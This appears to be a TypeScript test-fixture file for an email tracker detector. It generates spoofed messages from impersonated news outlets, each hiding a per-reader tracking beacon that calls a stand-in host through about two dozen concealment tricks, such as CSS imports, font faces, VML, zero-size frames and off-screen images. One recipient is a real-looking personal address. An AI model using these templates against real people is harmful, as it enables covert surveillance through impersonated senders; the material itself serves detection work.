// Set "blind": reconnaissance whose beacon hides in every way that mail programs load something.

import { base64, base64url, hashed, OTHERS, READERS, type Sheet } from "../unseen/sheet.ts";
import { page, planted, token } from "./press.ts";

const [HOLLOWAY, ADEYEMI, KESTREL, VOGT] = READERS;

export const PLANTED_HIDDEN: readonly Sheet[] = [
  ...planted("sheet with selectors", [HOLLOWAY, ADEYEMI], {
    from: '"Helen Marsh, The Guardian" <h.marsh@guardian-briefing.example>',
    of: (reader) => {
      const id = base64(reader).replaceAll("=", "%3D");
      const beacon = `https://img.guardian-briefing.example/a.gif?u=${id}`;
      const sheet = "<style>#foot > td img.s:first-child { width: 1px; height: 1px } p { color: #333 }</style>";
      const body = page(`<table><tr id="foot"><td><img class="s" src="${beacon}"></td></tr></table>`, sheet);
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("picture and sources", [KESTREL, VOGT], {
    from: "Reuters World Service <desk@reuters-world.example>",
    of: (reader) => {
      const id = token(`picture ${reader}`, 24);
      const beacons = [
        `https://cdn.reuters-world.example/w/${id}/l.webp`,
        `https://cdn.reuters-world.example/w/${id}/l.jpg`,
      ];
      const body = page(
        `<picture><source media="(min-width: 400px)" srcset="${beacons[0]} 2x"><img src="${beacons[1]}" width="480" height="240" alt=""></picture>`,
      );
      return { body, beacons, identifiers: [id] };
    },
  }),
  ...planted("table of no size", [HOLLOWAY], {
    from: "The Economist Intelligence Desk <intelligence@economist-intel.example>",
    of: (reader) => {
      const id = hashed("md5", reader);
      const beacon = `http://p.economist-intel.example/t/${id}`;
      const body = page(`<table width=0 height=0 cellpadding=0 background=${beacon}><tr><td></td></tr></table>`);
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("vml fill", [ADEYEMI, VOGT], {
    from: "Der Spiegel Redaktion <redaktion@spiegel-ausland.example>",
    subject: "Hintergrund: Gespräche über Taiwan".replace("ä", "ae").replace("ü", "ue"),
    of: (reader) => {
      const id = Buffer.from(reader).toString("hex");
      const beacon = `https://m.spiegel-ausland.example/bg.png?k=${id}`;
      const body = page(
        `<!--[if gte mso 9]><v:rect xmlns:v="urn:schemas-microsoft-com:vml" fill="true" stroke="false" style="width:1px;height:1px"><v:fill type="frame" src="${beacon}"/></v:rect><![endif]-->`,
      );
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("font face", [KESTREL], {
    from: "Le Monde International <international@lemonde-presse.example>",
    of: (reader) => {
      const id = hashed("sha1", reader);
      const beacon = `https://fonts.lemonde-presse.example/${id}.woff2`;
      const sheet = `<style>@font-face { font-family: "M"; src: url("${beacon}") format("woff2") } body { font-family: M, serif }</style>`;
      return { body: page("", sheet), beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("import", [HOLLOWAY], {
    from: "BBC News Analysis <analysis@bbc-news-desk.example>",
    of: (reader) => {
      const id = hashed("sha256", reader);
      const beacon = `https://s.bbc-news-desk.example/m.css?v=${id}`;
      return { body: page("", `<style>@import url(${beacon}) screen;</style>`), beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("list style", [ADEYEMI], {
    from: "Sarah Kline | Financial Times <sarah.kline@ft-london.example>",
    of: (reader) => {
      const id = base64url(reader);
      const beacon = `https://ft-london.example/b/${id}/dot.png`;
      const body = page(`<ul style="list-style-image: url('${beacon}')"><li>Tariffs</li><li>Ports</li></ul>`);
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("object with a fallback", [VOGT], {
    from: "Chatham House Asia Programme <asia@chathamhouse-asia.example>",
    of: (reader) => {
      const id = token(`object ${reader}`, 20);
      const beacon = `https://e.chathamhouse-asia.example/o?r=${id}`;
      const body = page(
        `<object data="${beacon}" type="image/png" width="1" height="1"><img src="cid:logo@desk" alt=""></object>`,
      );
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("embed and poster", [HOLLOWAY], {
    from: "Associated Press Video <video@ap-video.example>",
    of: (reader) => {
      const id = token(`poster ${reader}`, 22);
      const beacons = [`https://v.ap-video.example/p/${id}.jpg`, `https://v.ap-video.example/e?sid=${id}`];
      const body = page(
        `<video poster="${beacons[0]}" width="320" height="180" controls></video><embed src="${beacons[1]}" width=0 height=0>`,
      );
      return { body, beacons, identifiers: [id] };
    },
  }),
  ...planted("image of a form", [ADEYEMI, KESTREL], {
    from: "Politico Europe Morning Brief <brief@politico-morning.example>",
    of: (reader) => {
      const id = token(`input ${reader}`, 18);
      const beacon = `https://c.politico-morning.example/i/${id}`;
      const body = page(`<form><input type="image" style="border:0;height:0;width:0" src="${beacon}" alt=""></form>`);
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("prefetch", [VOGT], {
    from: "MERICS China Briefing <briefing@merics-china.example>",
    of: (reader) => {
      const id = token(`prefetch ${reader}`, 26).toLowerCase();
      const beacons = [`https://r.merics-china.example/n?c=${id}`];
      return { body: page("", `<link rel="prefetch" href="${beacons[0]}">`), beacons, identifiers: [id] };
    },
  }),
  ...planted("name that is looked up", [HOLLOWAY, VOGT], {
    from: "Radio Free Asia Newsroom <newsroom@rfa-asia.example>",
    of: (reader) => {
      const id = token(`host ${reader}`, 20).toLowerCase();
      const beacon = `https://${id}.o.rfa-asia.example/x.gif`;
      return { body: page(`<img src=${beacon} height=1 width=1 border=0>`), beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("off the screen", [KESTREL], {
    from: "Deutsche Welle Asia <asien@dw-asien.example>",
    of: (reader) => {
      const id = reader.replace("@", "%40");
      const beacon = `https://dw-asien.example/z/${id}/s.png`;
      const body = page(
        `<div style="position:absolute; left:-6000px; top:0"><img src="${beacon}" width="60" height="60"></div>`,
      );
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("seen and personal", [HOLLOWAY, ADEYEMI], {
    from: "Nikkei Asia Editors <editors@nikkei-asia-review.example>",
    of: (reader) => {
      const id = token(`seen ${reader}`, 28);
      const beacon = `https://i.nikkei-asia-review.example/masthead/${id}.png`;
      return {
        body: page(`<img src="${beacon}" width="600" height="90" alt="Nikkei Asia">`),
        beacons: [beacon],
        identifiers: [id],
      };
    },
  }),
  ...planted("parent of no height", [ADEYEMI], {
    from: "The Times of London <world@thetimes-world.example>",
    of: (reader) => {
      const id = token(`parent ${reader}`, 16);
      const beacon = `https://l.thetimes-world.example/${id}/1`;
      const body = page(
        `<div style="MAX-HEIGHT:0;overflow:hidden;mso-hide:all;font-size:0"><span><img src='${beacon}' width=200></span></div>`,
      );
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("scaled to nothing", [VOGT], {
    from: "Anna Berg (Süddeutsche Zeitung) <a.berg@sz-recherche.example>".replace("ü", "ue"),
    of: (reader) => {
      const id = token(`scale ${reader}`, 21);
      const beacon = `https://sz-recherche.example/bild/${id}.jpg`;
      return {
        body: page(`<img style="transform: scale(0)" src="${beacon}" width="120" height="80">`),
        beacons: [beacon],
        identifiers: [id],
      };
    },
  }),
  ...planted("content of a pseudo element", [HOLLOWAY], {
    from: "Newsweek World <world@newsweek-world.example>",
    of: (reader) => {
      const id = token(`content ${reader}`, 30);
      const beacon = `https://newsweek-world.example/q/${id}`;
      return {
        body: page('<p class="end">End</p>', `<style>.end::after{content:url(${beacon})}</style>`),
        beacons: [beacon],
        identifiers: [id],
      };
    },
  }),
  ...planted("drawn by svg", [KESTREL], {
    from: "Euractiv Foreign Policy <foreign@euractiv-foreign.example>",
    of: (reader) => {
      const id = token(`svg ${reader}`, 24);
      const beacon = `https://euractiv-foreign.example/s/${id}.png`;
      return {
        body: page(`<svg width="1" height="1"><image href="${beacon}" width="1" height="1"/></svg>`),
        beacons: [beacon],
        identifiers: [id],
      };
    },
  }),
  ...planted("frame of no size", ["d.okafor.mp@gmail.com"], {
    from: "Washington Post Opinions <opinions@washpost-opinions.example>",
    of: (reader) => {
      const id = base64(reader);
      const beacon = `https://washpost-opinions.example/f?${id}`;
      return {
        body: page(`<iframe src="${beacon}" width="0" height="0" frameborder="0"></iframe>`),
        beacons: [beacon],
        identifiers: [id],
      };
    },
  }),
  ...planted("variable of a sheet", [HOLLOWAY], {
    from: "CNN International <intl@cnn-international.example>",
    of: (reader) => {
      const id = token(`variable ${reader}`, 25);
      const beacon = `https://cnn-international.example/v/${id}.png`;
      const sheet = `<style>:root{--i:url(${beacon})} td.x{background-image:var(--i)}</style>`;
      return {
        body: page('<table><tr><td class="x">&nbsp;</td></tr></table>', sheet),
        beacons: [beacon],
        identifiers: [id],
      };
    },
  }),
  ...planted("base and a relative path", [ADEYEMI], {
    from: "Voice of America Mandarin <mandarin@voa-mandarin.example>",
    of: (reader) => {
      const id = token(`base ${reader}`, 20);
      const beacon = `https://voa-mandarin.example/n/o.gif?s=${id}`;
      return {
        body: page(`<img width="1" height="1" src="o.gif?s=${id}">`, '<base href="https://voa-mandarin.example/n/">'),
        beacons: [beacon],
        identifiers: [id],
      };
    },
  }),
  ...planted("sets of images", [OTHERS[0], OTHERS[1]], {
    from: "The Diplomat Magazine <editors@thediplomat-mag.example>",
    of: (reader) => {
      const id = token(`set ${reader}`, 24);
      const beacon = `https://thediplomat-mag.example/k/${id}.png`;
      const body = page(`<div style='width:2px;height:2px;background-image:image-set("${beacon}" 1x)'></div>`);
      return { body, beacons: [beacon], identifiers: [id] };
    },
  }),
  ...planted("shouted and unquoted", [VOGT], {
    from: "Agence France-Presse <depeches@afp-depeches.example>",
    of: (reader) => {
      const id = hashed("md5", reader).toUpperCase();
      const beacon = `http://afp-depeches.example/O.ASP?ID=${id}&N=7`;
      return {
        body: page(`<IMG BORDER=0 HEIGHT=1 ALT=""WIDTH=1 SRC=${beacon.replace("&", "&amp;")}>`),
        beacons: [beacon],
        identifiers: [id],
      };
    },
  }),
];
